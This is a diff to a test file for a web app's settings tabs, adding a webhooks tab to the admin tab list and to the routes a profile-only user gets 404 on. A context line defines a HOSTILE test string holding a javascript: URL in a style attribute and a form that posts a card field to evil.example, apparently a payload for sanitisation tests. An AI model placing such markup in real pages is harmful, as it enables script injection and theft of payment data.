@@ -16,14 +16,14 @@ const HOSTILE =
   '<p style="background:url(javascript:alert(5))">Open daily</p><form action="https://evil.example"><input name="card"></form>';
 
 describe('Settings tabs', () => {
-  test('the root admin sees Website, Domains, Team, Practice and My Profile, and Settings opens on Website', async () => {
+  test('the root admin sees Website, Domains, Team, Practice, Webhooks and My Profile, and Settings opens on Website', async () => {
     const { token } = await createPracticeWithSite(app);
     const start = await app.request('/app/settings', { headers: cookieHeader(token) });
     expect(start.status).toBe(303);
     expect(start.headers.get('location')).toBe('/app/settings/website');
     const html = await (await app.request('/app/settings/website', { headers: cookieHeader(token) })).text();
     const tabs = [...html.matchAll(/<a href="\/app\/settings\/(\w+)" class="tab"/g)].map((m) => m[1]);
-    expect(tabs).toEqual(['website', 'domains', 'team', 'practice', 'profile']);
+    expect(tabs).toEqual(['website', 'domains', 'team', 'practice', 'webhooks', 'profile']);
     expect(html).toContain('<a href="/app/users">Users</a>');
   });
 
@@ -39,7 +39,7 @@ describe('Settings tabs', () => {
     const html = await (await app.request('/app/settings/profile', { headers: cookieHeader(token) })).text();
     expect([...html.matchAll(/<a href="\/app\/settings\/(\w+)" class="tab"/g)].map((m) => m[1])).toEqual(['profile']);
     expect(html).not.toContain('/app/users');
-    for (const path of ['/app/settings/website', '/app/settings/domains', '/app/settings/team', '/app/settings/team/new', '/app/users']) {
+    for (const path of ['/app/settings/website', '/app/settings/domains', '/app/settings/team', '/app/settings/team/new', '/app/settings/webhooks', '/app/users']) {
       const res = await app.request(path, { headers: cookieHeader(token) });
       expect(res.status).toBe(404);
       expect(await res.text()).toContain('Oops! Sorry page not found');
